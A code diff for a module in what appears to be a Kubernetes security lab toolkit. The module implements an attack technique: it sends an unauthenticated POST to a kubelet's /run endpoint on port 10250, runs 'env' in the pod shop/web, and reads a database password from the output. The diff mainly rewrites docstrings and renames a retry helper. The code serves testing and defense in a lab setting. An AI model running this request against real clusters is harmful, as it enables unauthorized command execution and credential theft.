@@ -1,6 +1,9 @@
-"""Run a command in somebody else's container through the kubelet's port, without a credential.
+"""Run a command in a container through the kubelet's port, without a credential.
 
-What a container is given as its environment lies open to whoever can run a command in it.
+The attacker needs a connection to port 10250 of a worker. They ask the kubelet to run ``env`` in
+a container, and read a secret from its environment variables. It succeeds if the kubelet accepts
+anonymous requests and allows every request. It stops if anonymous authentication is off, or if
+the kubelet asks the apiserver for authorization.
 """
 
 from __future__ import annotations
@@ -10,7 +13,7 @@ from typing import TYPE_CHECKING
 from labkit.errors import ProbeError
 from labkit.model import Foothold, Model
 from labkit.techniques._lib.api.ask import ask, first_refusal
-from labkit.techniques._lib.api.kubelet import CHANNEL, as_apiserver, kubelet_url, patiently
+from labkit.techniques._lib.api.kubelet import CHANNEL, as_apiserver, kubelet_url, retry_unknown_pod
 from labkit.techniques._lib.machines.reach import Answer
 from labkit.techniques._lib.stores.secret import true_secret
 from labkit.techniques._lib.technique import (
@@ -29,12 +32,12 @@ if TYPE_CHECKING:
 __all__ = ["TECHNIQUE"]
 
 WANTED = ("shop", "db-credentials", "password")
-#: The kubelet's oldest way to run something: one request, the answer is the output.
+#: The kubelet's endpoint that runs a command with one request and returns its output.
 PATH = "/run/shop/web/web?cmd=env"
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: whether the kubelet lets the anonymous in, and do everything."""
+    """Predict whether the kubelet accepts anonymous callers and allows them everything."""
     channel = model.open_channels(CHANNEL)[0]
     return first_refusal(
         (channel.client_authentication, ("anonymous", "none")),
@@ -43,7 +46,7 @@ def predict(model: Model, foothold: Foothold) -> Prediction:
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Run ``env`` in the pod shop/web."""
+    """Run ``env`` in the pod shop/web through the kubelet."""
     secret = true_secret(lab, *WANTED)
 
     def proof(answer: Answer) -> str:
@@ -56,7 +59,7 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
         return "with the apiserver's certificate, the same request runs the command"
 
     url = kubelet_url(lab, PATH)
-    return patiently(
+    return retry_unknown_pod(
         lambda: ask(lab, TECHNIQUE.name, foothold, url, method="POST", proof=proof, control=control)
     )
 
